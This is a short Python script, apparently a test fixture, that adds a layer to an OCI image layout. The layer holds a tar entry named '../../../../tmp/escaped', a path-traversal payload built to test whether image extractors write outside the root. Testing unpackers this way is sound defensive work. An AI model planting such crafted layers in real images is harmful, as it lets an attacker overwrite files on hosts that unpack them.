#!/usr/bin/env python3
"""Gives an OCI layout's image one more layer, of a file outside of its root. Usage: hostile.py LAYOUT"""

import gzip
import hashlib
import io
import json
import pathlib
import sys
import tarfile

root = pathlib.Path(sys.argv[1])
blobs = root / "blobs/sha256"


def put(data):
    name = hashlib.sha256(data).hexdigest()
    (blobs / name).write_bytes(data)
    return {"digest": f"sha256:{name}", "size": len(data)}


plain = io.BytesIO()
with tarfile.open(fileobj=plain, mode="w") as archive:
    entry = tarfile.TarInfo("../../../../tmp/escaped")
    entry.size = 7
    archive.addfile(entry, io.BytesIO(b"escaped"))
index = json.loads((root / "index.json").read_text())
described = index["manifests"][0]
manifest = json.loads((blobs / described["digest"][7:]).read_text())
config = json.loads((blobs / manifest["config"]["digest"][7:]).read_text())
config["rootfs"]["diff_ids"].append("sha256:" + hashlib.sha256(plain.getvalue()).hexdigest())
manifest["config"].update(put(json.dumps(config).encode()))
layer = put(gzip.compress(plain.getvalue()))
manifest["layers"].append({"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip", **layer})
described.update(put(json.dumps(manifest).encode()))
(root / "index.json").write_text(json.dumps(index))
